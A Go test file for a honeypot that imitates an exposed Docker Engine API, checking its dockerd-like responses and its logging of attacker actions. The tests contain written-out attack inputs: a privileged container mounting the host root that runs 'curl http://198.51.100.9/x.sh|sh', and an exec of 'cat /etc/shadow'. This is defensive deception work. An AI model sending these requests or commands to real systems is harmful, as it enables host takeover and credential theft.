package dockerapi_test

import (
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"os/exec"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"decnet/decoy/dockerapi"
	"decnet/decoy/trap"
	"decnet/decoy/traptest"
)

func bench(t *testing.T) *traptest.Bench {
	t.Helper()
	return traptest.New(t, dockerapi.New, traptest.Options{Service: "docker_api", Identity: trap.Identity{Distro: "ubuntu22"}})
}

// ask sends one request and returns the head and the body of the answer.
func ask(t *testing.T, b *traptest.Bench, method, path, body string) (string, string) {
	t.Helper()
	c := b.Dial(2375)
	_, err := fmt.Fprintf(c, "%s %s HTTP/1.1\r\nHost: h:2375\r\nUser-Agent: Docker-Client/24.0.7 (linux)\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s", method, path, len(body), body)
	require.NoError(t, err)
	got, err := io.ReadAll(c)
	require.NoError(t, err)
	head, rest, _ := strings.Cut(string(got), "\r\n\r\n")
	if strings.Contains(head, "chunked") {
		_, rest, _ = strings.Cut(rest, "\r\n")
		rest = strings.TrimSuffix(rest, "\r\n0\r\n\r\n")
	}
	return head, rest
}

func decode[T any](t *testing.T, text string) T {
	t.Helper()
	var v T
	require.NoErrorf(t, json.Unmarshal([]byte(text), &v), "%s", text)
	return v
}

func TestPing_HasTheHeadersOfDockerd(t *testing.T) {
	t.Parallel()
	head, body := ask(t, bench(t), "GET", "/_ping", "")
	assert.Equal(t, "OK", body)
	assert.Equal(t, strings.Join([]string{
		"HTTP/1.1 200 OK", "Api-Version: 1.43", "Builder-Version: 2", "Cache-Control: no-cache, no-store, must-revalidate",
		"Content-Type: text/plain; charset=utf-8", "Docker-Experimental: false", "Ostype: linux", "Pragma: no-cache",
		"Server: Docker/24.0.7 (linux)", "Swarm: inactive", "Date: Tue, 14 Apr 2026 09:03:24 GMT", "Content-Length: 2", "Connection: close",
	}, "\r\n"), head)
}

func TestVersion_IsThatOfTheImitatedMachine(t *testing.T) {
	t.Parallel()
	b := bench(t)
	_, body := ask(t, b, "GET", "/v1.24/version", "")
	v := decode[map[string]any](t, body)
	assert.Equal(t, "24.0.7", v["Version"])
	assert.Equal(t, "5.15.0-105-generic", v["KernelVersion"])
	_, body = ask(t, b, "GET", "/info", "")
	info := decode[map[string]any](t, body)
	assert.Equal(t, "srv-web-07", info["Name"])
	assert.Equal(t, "Ubuntu 22.04.4 LTS", info["OperatingSystem"])
	head, body := ask(t, b, "GET", "/v1.99/info", "")
	assert.Contains(t, head, "400 Bad Request")
	assert.JSONEq(t, `{"message":"client version 1.99 is too new. Maximum supported API version is 1.43"}`, body)
	head, body = ask(t, b, "GET", "/secrets/x", "")
	assert.Contains(t, head, "404 Not Found")
	assert.Equal(t, "{\"message\":\"page not found\"}\n", body) //nolint:testifylint // the line end is part of it
	f := traptest.Fields(b.Wait("request"))
	assert.Equal(t, "/v1.24/version", f["path"])
	assert.Contains(t, f, "remote_addr")
}

// The way of the bots: pull, create with the host's root, start.
func TestCreate_AnAttackIsPlayedThrough(t *testing.T) {
	t.Parallel()
	b := bench(t)
	const wish = `{"Image":"alpine","Cmd":["sh","-c","curl http://198.51.100.9/x.sh|sh"],"Entrypoint":"","HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}`
	head, body := ask(t, b, "POST", "/containers/create?name=evil", wish)
	assert.Contains(t, head, "404 Not Found")
	assert.JSONEq(t, `{"message":"No such image: alpine:latest"}`, body)
	_, body = ask(t, b, "POST", "/images/create?fromImage=alpine&tag=latest", "")
	assert.Contains(t, body, "Status: Downloaded newer image for alpine:latest")
	assert.Equal(t, "docker://alpine:latest", traptest.Fields(b.Wait("file_download"))["url"])

	head, body = ask(t, b, "POST", "/containers/create?name=evil", wish)
	require.Contains(t, head, "201 Created")
	id := decode[struct{ ID string }](t, body).ID
	assert.Len(t, id, 64)
	f := traptest.Fields(b.WaitN("command", 2)[1])
	assert.Equal(t, "sh -c 'curl http://198.51.100.9/x.sh|sh'", f["command"])
	assert.Equal(t, "alpine", f["image"])
	assert.Equal(t, "/:/mnt", f["mounts"])
	assert.Equal(t, "true", f["privileged"])

	head, _ = ask(t, b, "POST", "/containers/"+id[:12]+"/start", "")
	assert.Contains(t, head, "204 No Content")
	_, body = ask(t, b, "GET", "/containers/json", "")
	assert.Contains(t, body, `"Names":["/evil"]`)
	_, body = ask(t, b, "GET", "/containers/evil/json", "")
	assert.Contains(t, body, `"Status":"running"`)
	head, _ = ask(t, b, "DELETE", "/containers/evil?force=1", "")
	assert.Contains(t, head, "204 No Content")
	head, _ = ask(t, b, "GET", "/containers/evil/json", "")
	assert.Contains(t, head, "404 Not Found")
}

func TestExec_IsRecordedWithItsContainer(t *testing.T) {
	t.Parallel()
	b := bench(t)
	_, body := ask(t, b, "GET", "/containers/json", "")
	boxes := decode[[]struct {
		ID    string
		Names []string
		Image string
	}](t, body)
	require.NotEmpty(t, boxes, "a machine without containers is dull")
	head, body := ask(t, b, "POST", "/containers/"+boxes[0].ID+"/exec", `{"AttachStdout":true,"Cmd":["cat","/etc/shadow"]}`)
	require.Contains(t, head, "201 Created")
	f := traptest.Fields(b.Wait("command"))
	assert.Equal(t, "cat /etc/shadow", f["command"])
	assert.Equal(t, boxes[0].Image, f["image"])
	assert.Equal(t, strings.TrimPrefix(boxes[0].Names[0], "/"), f["container"])
	head, _ = ask(t, b, "POST", "/exec/"+decode[struct{ ID string }](t, body).ID+"/start", `{"Detach":false,"Tty":false}`)
	assert.Equal(t, "HTTP/1.1 200 OK\r\nContent-Type: application/vnd.docker.raw-stream", head)
}

func TestCreate_AFloodIsForgotten(t *testing.T) {
	t.Parallel()
	b := bench(t)
	ask(t, b, "POST", "/images/create?fromImage=alpine", "")
	for i := range 100 {
		head, _ := ask(t, b, "POST", "/containers/create", fmt.Sprintf(`{"Image":"alpine","Cmd":"sleep %d"}`, i))
		require.Contains(t, head, "201 Created")
	}
	_, body := ask(t, b, "GET", "/containers/json?all=1", "")
	assert.Len(t, decode[[]any](t, body), 64)
	_, body = ask(t, b, "GET", "/containers/json", "")
	assert.NotEmpty(t, decode[[]any](t, body), "the machine's own stay")
}

func TestGarbage_GetsWhatGoSays(t *testing.T) {
	t.Parallel()
	b := bench(t)
	c := b.Dial(2375)
	_, err := io.WriteString(c, "HELP\r\n\r\n")
	require.NoError(t, err)
	got, err := io.ReadAll(c)
	require.NoError(t, err)
	assert.Equal(t, "HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n400 Bad Request", string(got))
	b.Wait("protocol_error")
	head, _ := ask(t, b, "POST", "/containers/create", "{")
	assert.Contains(t, head, "400 Bad Request")
}

func TestTLS_OnItsPort(t *testing.T) {
	t.Parallel()
	b := bench(t)
	c := tls.Client(b.Dial(2376), &tls.Config{InsecureSkipVerify: true})
	_, err := io.WriteString(c, "GET /_ping HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n")
	require.NoError(t, err)
	got, err := io.ReadAll(c)
	require.NoError(t, err)
	assert.True(t, strings.HasSuffix(string(got), "\r\n\r\nOK"))
	assert.Equal(t, "2376", traptest.Fields(b.Wait("tls_client_hello"))["dst_port"])
	plain := b.Dial(2376)
	_, err = io.WriteString(plain, "GET / HTTP/1.1\r\nHost: h\r\n\r\n")
	require.NoError(t, err)
	got, err = io.ReadAll(plain)
	require.NoError(t, err)
	assert.Equal(t, "HTTP/1.0 400 Bad Request\r\n\r\nClient sent an HTTP request to an HTTPS server.\n", string(got))
}

func TestCurl_Agrees(t *testing.T) {
	t.Parallel()
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("curl is not installed")
	}
	b := bench(t)
	out, err := exec.CommandContext(t.Context(), curl, "-sS", "--max-time", "10", "http://"+b.Listen(2375)+"/info").CombinedOutput()
	require.NoErrorf(t, err, "%s", out)
	assert.Equal(t, "linux", decode[map[string]any](t, string(out))["OSType"])
}
